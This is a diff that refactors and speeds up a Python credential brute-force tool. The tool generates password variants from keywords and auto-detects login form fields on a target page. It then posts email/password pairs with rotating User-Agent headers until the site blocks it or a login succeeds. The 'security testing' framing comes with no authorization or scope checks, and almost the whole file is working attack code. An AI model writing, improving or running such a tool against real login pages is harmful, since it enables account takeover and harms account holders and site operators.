@@ -3,10 +3,79 @@ Utility function for testing login security and rate limiting by attempting
 credential combinations until blocked.
 """
 
+import importlib.util
+import re
+import threading
 import time
 import random
-from typing import List, Dict, Any, Optional, Tuple
-from itertools import product
+from collections.abc import Sized
+from functools import lru_cache
+from itertools import islice
+from typing import List, Dict, Any, Iterable, Iterator, Optional, Tuple
+
+# Phrases in a login response that indicate blocking or a successful login,
+# each matched in a single case-insensitive scan of the body
+_BLOCK_RE = re.compile(
+    r'captcha|too many attempts|account locked|temporarily blocked|suspicious activity|rate limit',
+    re.IGNORECASE
+)
+_SUCCESS_RE = re.compile(r'dashboard|welcome|logout', re.IGNORECASE)
+
+# lxml parses much faster than the pure-Python html.parser; used when installed
+_HTML_PARSER = 'lxml' if importlib.util.find_spec('lxml') else 'html.parser'
+
+# CSS selectors for login inputs; select() returns matches in document order
+_EMAIL_FIELD_SELECTOR = ', '.join(
+    [f'{tag}[type="email" i]' for tag in ('input', 'textarea')]
+    + [
+        f'{tag}[{attr}*="{pattern}" i]'
+        for tag in ('input', 'textarea')
+        for attr in ('name', 'id')
+        for pattern in ('email', 'user', 'login', 'account')  # 'user' also covers 'username'
+    ]
+)
+_PASSWORD_FIELD_SELECTOR = 'input[type="password" i], textarea[type="password" i]'
+
+# Only the start of each login response body is downloaded and scanned
+MAX_SNIFF_BYTES = 64 * 1024
+
+
+def _read_prefix(response: Any, limit: int = MAX_SNIFF_BYTES) -> str:
+    """
+    Read at most limit bytes of a streamed response body as text, then close it.
+    
+    Args:
+        response: requests.Response obtained with stream=True
+        limit: Maximum number of body bytes to read
+    
+    Returns:
+        Decoded body prefix
+    """
+    chunks = []
+    size = 0
+    try:
+        for chunk in response.iter_content(chunk_size=8192):
+            chunks.append(chunk)
+            size += len(chunk)
+            if size >= limit:
+                break
+    finally:
+        response.close()
+    return b''.join(chunks)[:limit].decode(response.encoding or 'utf-8', errors='replace')
+
+
+def _keyword_variations(keyword: str) -> Iterator[str]:
+    """Lazily yield common password variations of a single keyword."""
+    yield keyword                           # basic
+    yield keyword.lower()                   # lowercase
+    yield keyword.capitalize()              # Capitalized
+    yield keyword.upper()                   # UPPERCASE
+    yield f"{keyword}123"                   # with numbers
+    yield f"{keyword}2024"                  # with year
+    yield f"{keyword}!"                     # with exclamation
+    yield f"{keyword}@123"                  # with @ and numbers
+    yield f"123{keyword}"                   # numbers first
+    yield f"{keyword}#{random.randint(1,99)}"  # with hash and number
 
 
 def generate_password_combinations(keywords: List[str], max_per_keyword: int = 10) -> List[str]:
@@ -20,44 +89,44 @@ def generate_password_combinations(keywords: List[str], max_per_keyword: int = 1
     Returns:
         List of password combinations
     """
-    passwords = []
-    
-    for keyword in keywords:
-        variations = [
-            keyword,                          # basic
-            keyword.lower(),                  # lowercase
-            keyword.capitalize(),             # Capitalized
-            keyword.upper(),                  # UPPERCASE
-            f"{keyword}123",                  # with numbers
-            f"{keyword}2024",                 # with year
-            f"{keyword}!",                    # with exclamation
-            f"{keyword}@123",                 # with @ and numbers
-            f"123{keyword}",                  # numbers first
-            f"{keyword}#{random.randint(1,99)}", # with hash and number
-        ]
-        passwords.extend(variations[:max_per_keyword])
-    
-    # Remove duplicates while preserving order
-    seen = set()
-    return [p for p in passwords if not (p in seen or seen.add(p))]
+    # Variations are generated and de-duplicated (preserving order) in one pass
+    return list(dict.fromkeys(
+        password
+        for keyword in keywords
+        for password in islice(_keyword_variations(keyword), max_per_keyword)
+    ))
 
 
 def detect_form_fields(html_content: str) -> Dict[str, Optional[str]]:
     """
     Detect email/username and password input fields from HTML.
     
+    Results are memoized per page content, so re-running a test against an
+    unchanged login page skips parsing it again.
+    
     Args:
         html_content: HTML content of the page
     
     Returns:
         Dictionary with field names found
     """
+    return dict(_detect_form_fields_cached(html_content))
+
+
+@lru_cache(maxsize=8)
+def _detect_form_fields_cached(html_content: str) -> Dict[str, Optional[str]]:
+    """Parse the page and detect its login fields (cached; callers get a copy)."""
     try:
-        from bs4 import BeautifulSoup
+        from bs4 import BeautifulSoup, SoupStrainer
     except ImportError:
         raise ImportError("beautifulsoup4 is required. Install: pip install beautifulsoup4")
     
-    soup = BeautifulSoup(html_content, 'html.parser')
+    # Only form controls are needed; every other tag is dropped while parsing
+    soup = BeautifulSoup(
+        html_content,
+        _HTML_PARSER,
+        parse_only=SoupStrainer(['form', 'input', 'textarea'])
+    )
     
     fields = {
         'email_field': None,
@@ -72,45 +141,40 @@ def detect_form_fields(html_content: str) -> Dict[str, Optional[str]]:
         fields['form_action'] = form.get('action', '')
         fields['form_method'] = form.get('method', 'post').lower()
     
-    # Find email/username field
-    email_patterns = ['email', 'username', 'user', 'login', 'account']
-    for input_field in soup.find_all(['input', 'textarea']):
-        input_name = (input_field.get('name') or '').lower()
-        input_type = (input_field.get('type') or '').lower()
-        input_id = (input_field.get('id') or '').lower()
-        
-        # Check for email field
-        if not fields['email_field']:
-            if input_type == 'email' or any(pat in input_name for pat in email_patterns) or \
-               any(pat in input_id for pat in email_patterns):
-                fields['email_field'] = input_field.get('name') or input_field.get('id')
-        
-        # Check for password field
-        if not fields['password_field']:
-            if input_type == 'password':
-                fields['password_field'] = input_field.get('name') or input_field.get('id')
+    # Find email/username and password fields (first match with a name or id)
+    for key, selector in (('email_field', _EMAIL_FIELD_SELECTOR),
+                          ('password_field', _PASSWORD_FIELD_SELECTOR)):
+        for input_field in soup.select(selector):
+            field = input_field.get('name') or input_field.get('id')
+            if field:
+                fields[key] = field
+                break
     
     return fields
 
 
 def attempt_credential_combinations(
     url: str,
-    emails: List[str],
+    emails: Iterable[str],
     keywords: List[str],
     delay: float = 1.0,
     max_attempts: Optional[int] = None,
-    verbose: bool = True
+    verbose: bool = True,
+    session: Optional[Any] = None,
+    stop_event: Optional[threading.Event] = None
 ) -> Dict[str, Any]:
     """
     Attempts to login with email and password combinations until blocked.
     
     Args:
         url: The login page URL
-        emails: List of email addresses to try
+        emails: Email addresses to try (any iterable; consumed lazily)
         keywords: List of keywords to generate password combinations from
-        delay: Time delay between attempts in seconds
+        delay: Minimum time in seconds between the start of consecutive attempts
         max_attempts: Maximum number of login attempts (None = unlimited)
         verbose: Whether to print progress information
+        session: Optional requests.Session to reuse pooled connections
+        stop_event: Optional event that stops the run when set (e.g. from another thread)
     
     Returns:
         Dictionary containing:
@@ -141,12 +205,18 @@ def attempt_credential_combinations(
         "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
     ]
     
-    # Create session to maintain cookies
-    session = requests.Session()
+    # Session maintains cookies; a shared one starts each run with a clean jar
+    if session is None:
+        session = requests.Session()
+    else:
+        session.cookies.clear()
+    
+    # Streamed emails (generators, wordlist files) have no length
+    email_count = len(emails) if isinstance(emails, Sized) else None
     
     if verbose:
         print(f"Testing credentials on: {url}")
-        print(f"Emails to test: {len(emails)}")
+        print(f"Emails to test: {'streamed' if email_count is None else email_count}")
         print(f"Keywords: {len(keywords)}")
         print("-" * 60)
     
@@ -184,7 +254,8 @@ def attempt_credential_combinations(
         
         if verbose:
             print(f"Generated {len(passwords)} password variations")
-            print(f"Total combinations to try: {len(emails) * len(passwords)}")
+            if email_count is not None:
+                print(f"Total combinations to try: {email_count * len(passwords)}")
             print("-" * 60)
         
         # Determine the post URL
@@ -196,45 +267,66 @@ def attempt_credential_combinations(
                 from urllib.parse import urljoin
                 post_url = urljoin(url, fields['form_action'])
         
-        # Try combinations
-        for email, password in product(emails, passwords):
-            # Check max attempts
-            if max_attempts is not None and attempts >= max_attempts:
+        # Form field names are looked up once, not per attempt
+        email_field = fields['email_field']
+        password_field = fields['password_field']
+        
+        # Reused across attempts; requests encodes the form data on each post
+        login_data = {email_field: '', password_field: ''}
+        
+        # Request headers are built once per user agent, not per attempt
+        header_templates = [
+            {
+                "User-Agent": user_agent,
+                "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+                "Accept-Language": "en-US,en;q=0.5",
+                "Content-Type": "application/x-www-form-urlencoded",
+                "Referer": url
+            }
+            for user_agent in user_agents
+        ]
+        
+        # Try combinations; emails stay lazy (outer loop), passwords are the inner list
+        combinations: Iterator[Tuple[str, str]] = (
+            (email, password) for email in emails for password in passwords
+        )
+        if max_attempts is not None:
+            # The attempt limit is enforced by the iterator itself
+            combinations = islice(combinations, max_attempts)
+        for email, password in combinations:
+            # Check for a cooperative stop request
+            if stop_event is not None and stop_event.is_set():
                 if verbose:
-                    print(f"\n⚠️  Reached maximum attempts limit: {max_attempts}")
+                    print("\n\n⚠️  Interrupted by user")
+                error_message = "Interrupted by user"
                 break
             
             attempts += 1
             
             # Prepare login data
-            login_data = {
-                fields['email_field']: email,
-                fields['password_field']: password
-            }
+            login_data[email_field] = email
+            login_data[password_field] = password
             
             # Randomize headers
-            headers = {
-                "User-Agent": random.choice(user_agents),
-                "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
-                "Accept-Language": "en-US,en;q=0.5",
-                "Content-Type": "application/x-www-form-urlencoded",
-                "Referer": url
-            }
+            headers = random.choice(header_templates)
             
             try:
                 # Attempt login
+                sent_at = time.monotonic()
                 response = session.post(
                     post_url,
                     data=login_data,
                     headers=headers,
                     timeout=10,
-                    allow_redirects=False
+                    allow_redirects=False,
+                    stream=True  # The body is read lazily, and only its first bytes
                 )
                 
                 final_status = response.status_code
                 
                 # Check if blocked by status code
                 if response.status_code in [429, 403]:
+                    response.close()
                     blocked = True
                     error_message = f"Rate limited/blocked (Status {response.status_code})"
                     if verbose:
@@ -242,17 +334,9 @@ def attempt_credential_combinations(
                     break
                 
                 # Check for blocking/captcha in response content
-                response_text = response.text.lower()
-                blocking_indicators = [
-                    'captcha',
-                    'too many attempts',
-                    'account locked',
-                    'temporarily blocked',
-                    'suspicious activity',
-                    'rate limit'
-                ]
+                response_text = _read_prefix(response)
                 
-                if any(indicator in response_text for indicator in blocking_indicators):
+                if _BLOCK_RE.search(response_text):
                     blocked = True
                     error_message = "Detected blocking message in response"
                     if verbose:
@@ -262,9 +346,7 @@ def attempt_credential_combinations(
                 # Check for successful login indicators
                 success_indicators = [
                     response.status_code in [200, 302, 301],
-                    'dashboard' in response_text,
-                    'welcome' in response_text,
-                    'logout' in response_text,
+                    _SUCCESS_RE.search(response_text),
                     response.headers.get('Location', '').endswith('/dashboard') or 
                     response.headers.get('Location', '').endswith('/home')
                 ]
@@ -302,8 +384,17 @@ def attempt_credential_combinations(
                     print(f"\n❌ Attempt #{attempts}: Exception - {str(e)}")
                 break
             
-            # Delay between attempts
-            time.sleep(delay)
+            # Pace attempts: only wait for the part of the delay the request
+            # itself did not already take (wakes early on stop)
+            remaining = sent_at + delay - time.monotonic()
+            if remaining > 0:
+                if stop_event is not None:
+                    stop_event.wait(remaining)
+                else:
+                    time.sleep(remaining)
+        else:
+            if max_attempts is not None and attempts >= max_attempts and verbose:
+                print(f"\n⚠️  Reached maximum attempts limit: {max_attempts}")
     
     except KeyboardInterrupt:
         if verbose: